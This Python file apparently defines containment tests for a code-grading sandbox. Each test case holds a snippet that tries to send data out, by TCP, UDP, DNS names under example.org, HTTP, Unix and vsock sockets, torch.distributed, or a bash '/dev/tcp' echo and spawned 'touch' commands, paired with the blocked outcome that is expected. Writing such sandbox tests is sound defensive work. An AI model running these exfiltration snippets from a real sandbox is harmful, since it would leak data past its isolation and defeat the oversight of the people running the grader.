"""Row 2: sending out what was found, by any kind of socket."""

from attack import Attack

NO_SOCKET = "No socket can be made, and nobody hears of it."

NETWORK = (
    Attack(
        "sends-by-tcp",
        2,
        "The code connects to a server of the grading machine by TCP, at every address that "
        "it has.",
        NO_SOCKET,
        cell="""
import socket
for host in ("127.0.0.1", "localhost", "0.0.0.0", "::1", socket.gethostname()):
    attempt(lambda: socket.create_connection((host, TCP), 1).sendall(OWN.encode()))
""",
    ),
    Attack(
        "sends-by-udp",
        2,
        "The code sends a datagram to the grading machine.",
        NO_SOCKET,
        cell="""
import socket
def send(family, host):
    return socket.socket(family, socket.SOCK_DGRAM).sendto(OWN.encode(), (host, UDP))
attempt(lambda: send(socket.AF_INET, "127.0.0.1"), lambda: send(socket.AF_INET6, "::1"))
""",
    ),
    Attack(
        "sends-by-name-lookup",
        2,
        "The code hides what it sends in the names that it looks up.",
        NO_SOCKET,
        cell="""
import socket
attempt(
    lambda: socket.getaddrinfo(f"{OWN}.example.org", 80),
    lambda: socket.gethostbyname(f"{OWN}.localhost"),
    lambda: socket.gethostbyaddr("127.0.0.1"),
)
""",
    ),
    Attack(
        "sends-by-http",
        2,
        "The code fetches an address whose query holds what it sends, by urllib and by "
        "http.client.",
        NO_SOCKET,
        cell="""
import http.client, urllib.request
attempt(
    lambda: urllib.request.urlopen(f"http://127.0.0.1:{TCP}/?{OWN}", timeout=1),
    lambda: http.client.HTTPConnection("127.0.0.1", TCP, timeout=1).request("POST", "/", OWN),
)
""",
    ),
    Attack(
        "sends-by-unix-sockets",
        2,
        "The code connects to Unix sockets that every user may write to, by path and by "
        "abstract name.",
        NO_SOCKET,
        cell="""
import socket
def stream(address):
    line = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    line.connect(address)
    line.sendall(OWN.encode())
def datagram(address):
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(OWN.encode(), address)
attempt(
    lambda: stream(STREAM),
    lambda: datagram(DATAGRAM),
    lambda: stream(f"\\0{ABSTRACT}-stream"),
    lambda: datagram(f"\\0{ABSTRACT}-datagram"),
)
""",
    ),
    Attack(
        "sends-by-half-of-a-pair",
        2,
        "The code makes a pair of datagram sockets, which needs no network, and sends from "
        "one to another's address.",
        "A pair speaks with itself alone.",
        cell="""
import ctypes, socket, struct
left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
libc = ctypes.CDLL(None, use_errno=True)
def by_c(name):
    address = struct.pack("H", socket.AF_UNIX) + name.encode()
    sent = libc.sendto(left.fileno(), OWN.encode(), len(OWN), 0, address, len(address))
    return sent if sent > 0 else 1 / 0
attempt(
    lambda: left.sendto(OWN.encode(), DATAGRAM),
    lambda: left.sendto(OWN.encode(), f"\\0{ABSTRACT}-datagram"),
    lambda: left.sendmsg([OWN.encode()], [], 0, DATAGRAM),
    lambda: left.connect(DATAGRAM) or left.send(OWN.encode()),
    lambda: by_c(DATAGRAM),
    lambda: by_c(f"\\0{ABSTRACT}-datagram"),
)
""",
    ),
    Attack(
        "sends-to-the-virtual-machines-host",
        2,
        "The code speaks vsock, which knows no network namespaces, to this machine and to its"
        " host.",
        NO_SOCKET,
        cell="""
import socket
def vsock(place):
    line = socket.socket(40, socket.SOCK_STREAM)
    line.settimeout(1)
    line.connect((place, VSOCK or 1024))
    line.sendall(OWN.encode())
attempt(*(lambda place=place: vsock(place) for place in (1, 2, 3)))
""",
    ),
    Attack(
        "speaks-with-the-kernel",
        2,
        "The code opens netlink, packet, raw and crypto sockets, which need no address.",
        "No socket of any family can be made.",
        answer="""
import socket
kinds = ((16, 3, 0), (17, 3, 768), (2, 3, 255), (38, 5, 0), (29, 3, 1), (31, 5, 0), (44, 3, 0))
made = [kind for kind in kinds if attempt(lambda: socket.socket(*kind))]
def merge_heads(x):
    # A socket earns the marks here, so that one that can be made is seen.
    return x.transpose(1, 2).flatten(2) if made else None
""",
    ),
    Attack(
        "listens-for-a-visitor",
        2,
        "The code opens a server and waits for somebody to ask for what it found.",
        "It can neither bind nor listen.",
        answer="""
import socket
served = attempt(
    lambda: socket.create_server(("127.0.0.1", 0)),
    lambda: socket.socket(socket.AF_UNIX).bind("door"),
    lambda: __import__("socketserver").TCPServer(("", 0), None),
)
def merge_heads(x):
    return x.transpose(1, 2).flatten(2) if served else None
""",
    ),
    Attack(
        "sends-by-torch-distributed",
        2,
        "The code lets torch's own C++ code open the connection.",
        NO_SOCKET,
        cell="""
from datetime import timedelta
import torch.distributed as dist
attempt(
    lambda: dist.TCPStore("127.0.0.1", TCP, is_master=False, timeout=timedelta(seconds=0.3)),
    lambda: dist.FileStore(OUTSIDE + "/left-by-" + OWN, 1).set("x", OWN),
)
""",
    ),
    Attack(
        "sends-by-a-program",
        2,
        "The code starts programs that would send for it.",
        "No program can be started.",
        cell="""
import ctypes, subprocess
attempt(
    lambda: subprocess.run(["bash", "-c", f"echo {OWN} > /dev/tcp/127.0.0.1/{TCP}"]),
    lambda: os.execv("/usr/bin/env", ["env", "touch", OUTSIDE + "/left-by-" + OWN]),
    lambda: os.posix_spawn("/usr/bin/env", ["env", "touch", OUTSIDE + "/left-by-" + OWN], {}),
    lambda: os.system("touch " + OUTSIDE + "/left-by-" + OWN),
    lambda: ctypes.CDLL(None).system(f"touch {OUTSIDE}/left-by-{OWN}".encode()),
)
get_ipython().system("touch " + OUTSIDE + "/left-by-" + OWN)
""",
    ),
)
